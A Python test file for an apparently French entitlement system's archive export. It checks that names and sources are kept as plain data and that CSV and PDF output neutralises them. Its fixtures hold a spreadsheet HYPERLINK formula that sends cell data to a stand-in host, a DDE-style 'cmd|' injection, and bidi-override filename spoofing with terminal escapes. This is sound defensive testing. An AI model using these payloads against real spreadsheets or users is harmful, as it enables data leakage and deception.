"""What others wrote of her can do no harm to who opens her archive."""

from __future__ import annotations

import io
import unicodedata
from datetime import UTC, date, datetime

from pypdf import PdfReader

from cspu.entitlement.operations import settle_person
from cspu.kernel.ids import computed_id
from cspu.lifecourse.facts import FactSet, LifeEvent, Source
from cspu.lifecourse.operations import assert_facts
from cspu.people.organisations import DeclaredOrganisation, register_organisations
from tests.entitlement.lives import FINAL, tell, work
from tests.records.conftest import Someone, archive_of, opened, text_of

AT = datetime(2025, 1, 1, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://x.test?"&A1,"clic")'
STEERED = "\u202egpj.\u2066exe\u2069 \x07\x1b[31m"
ARABIC, LONG = "نادية", "Wolfeschlegelsteinhausenbergerdorff" * 60


def test_hostile_texts_are_kept_as_data_and_shown_as_text(someone: Someone) -> None:
    evil = DeclaredOrganisation(siret="00000102400017", name=FORMULA)
    register_organisations([evil], recorded_at=AT)
    person = someone(birth_name=LONG, given_names=f"{STEERED}{ARABIC}")
    tell(person, work(2025, "151.67", organisation=evil.organisation_id))
    source = Source(
        computed_id("evil"), "odd kind, )(", f"@SUM(1+1)*cmd|{STEERED}", "-2+3\r\n+4", AT
    )
    event = LifeEvent(person, computed_id("e"), "child_birth", date(2025, 2, 3), {"note": "=1+1"})
    assert_facts(computed_id("o"), source, FactSet(events=[event]), recorded_at=AT)
    settle_person(person, as_of=FINAL)

    archive = opened(archive_of(person))
    assert archive.account["identity"]["birth_name"] == LONG
    assert archive.account["identity"]["given_names"] == f"{STEERED}{ARABIC}"
    assert source.reference in {each["reference"] for each in archive.account["sources"]}

    words = {
        "name",
        "label",
        "reference",
        "organisation",
        "payer",
        "given_names",
        "details",
        "source",
    }
    seen = 0
    for name in [each for each in archive.files if each.endswith(".csv")]:
        for row in archive.table(name.removeprefix("csv/").removesuffix(".csv")):
            for title in words & set(row):
                seen += 1
                assert not row[title].startswith(("=", "+", "-", "@", "\t", "\r", "\n")), row[title]
    assert seen > 50
    shown = [name for name in archive.files if not name.endswith((".json", ".pdf"))]
    texts = [archive.files[name].decode("utf-8-sig") for name in shown]
    texts += [text_of(archive.files[name]) for name in archive.files if name.endswith(".pdf")]
    for text in texts:
        assert not any(
            unicodedata.category(letter) in {"Cc", "Cf"} and letter not in "\r\n\u00ad"
            for letter in text
        )


def test_a_name_too_long_for_its_line_stays_on_the_page(someone: Someone) -> None:
    person = someone(birth_name=LONG)
    archive = opened(archive_of(person))
    reader = PdfReader(io.BytesIO(archive.files["mon-compte.pdf"]))
    wide = []

    def look(text: str, _cm: list[float], tm: list[float], _font: object, size: float) -> None:
        if text.strip():
            wide.append((tm[4] + 0.3 * size * len(text.strip()), text))

    for page in reader.pages:
        page.extract_text(visitor_text=look)
    assert wide
    assert max(wide)[0] < 595, "beyond the right edge of an A4 page"
    assert LONG in archive.text("mon-compte.pdf").replace("\n", "")
